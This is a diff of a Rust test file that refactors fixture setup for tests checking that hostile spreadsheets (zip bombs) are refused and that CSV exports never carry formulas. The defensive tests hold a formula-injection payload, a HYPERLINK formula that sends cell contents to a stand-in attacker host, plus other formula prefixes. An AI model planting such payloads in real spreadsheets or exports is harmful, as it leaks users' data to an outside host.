@@ -16,18 +16,17 @@ use shared::dto::contract::ContractStatus;
 use shared::dto::import::{ImportColumns, ImportReport};
 use shared::dto::organisation::OrganisationKind;
 use shared::dto::sync::SyncRecord;
-use tests::fixture::{ContractSpec, EnclaveSpec, date};
+use tests::dates::date;
+use tests::fixture::{ContractSpec, EnclaveSpec};
 use tests::records::inspection;
-use tests::{Backend, TestApp, assert_error, json, on_both_backends};
+use tests::world::{BREWERY as HOST, KOUTER as MWB};
+use tests::{Backend, TestApp, World, assert_error, json, on_both_backends};
 
 on_both_backends!(
     hostile_spreadsheets_are_refused_within_limits,
     csv_exports_never_carry_a_formula
 );
 
-const PW: &str = "a-long-test-password";
-const MWB: &str = "0123456749";
-const HOST: &str = "0200000043";
 /// The sheet's path inside an .xlsx written by rust_xlsxwriter.
 const SHEET: &str = "xl/worksheets/sheet1.xml";
 /// What the bombs unzip to: 1000 pieces of about 1 MiB.
@@ -222,21 +221,8 @@ async fn post_while_healthy(
 }
 
 async fn hostile_spreadsheets_are_refused_within_limits(backend: Backend) {
-    let app = TestApp::spawn(backend).await;
-    let f = app.fixture();
-    f.user("adam", PW, Role::Admin, &[]);
-    let mwb = f.organisation(
-        OrganisationKind::Maatwerkbedrijf,
-        "Atelier Kouter",
-        Some(MWB),
-    );
-    let host = f.organisation(
-        OrganisationKind::RegularCompany,
-        "Brouwerij Gent",
-        Some(HOST),
-    );
-    f.enclave(&mwb, &host, EnclaveSpec::default());
-    let adam = app.login("adam", PW).await.access_token;
+    let World { app, admin, .. } = World::new(backend).await;
+    let adam = admin.token;
 
     let files = [
         (
@@ -313,9 +299,6 @@ async fn hostile_spreadsheets_are_refused_within_limits(backend: Backend) {
 async fn csv_exports_never_carry_a_formula(backend: Backend) {
     let app = TestApp::spawn(backend).await;
     let f = app.fixture();
-    f.user("adam", PW, Role::Admin, &[]);
-    f.user("rev", PW, Role::Reviewer, &[]);
-    f.user("ines", PW, Role::Inspector, &[]);
     const LINK: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")";
     const SUM: &str = "@SUM(1)";
     const SUM_OF: &str = "-2+3";
@@ -331,14 +314,14 @@ async fn csv_exports_never_carry_a_formula(backend: Backend) {
             ..ContractSpec::default()
         },
     );
-    let adam = app.login("adam", PW).await.access_token;
-    let rev = app.login("rev", PW).await.access_token;
-    let ines = app.login("ines", PW).await.access_token;
+    let adam = app.admin().await.token;
+    let rev = app.user("rev", Role::Reviewer, &[]).await.token;
     let pushed = app
-        .push(
-            &ines,
-            vec![SyncRecord::Inspection(Box::new(inspection(&enclave.id)))],
-        )
+        .inspector()
+        .await
+        .push(vec![SyncRecord::Inspection(Box::new(inspection(
+            &enclave.id,
+        )))])
         .await;
     assert_eq!(pushed.results.len(), 1);
 
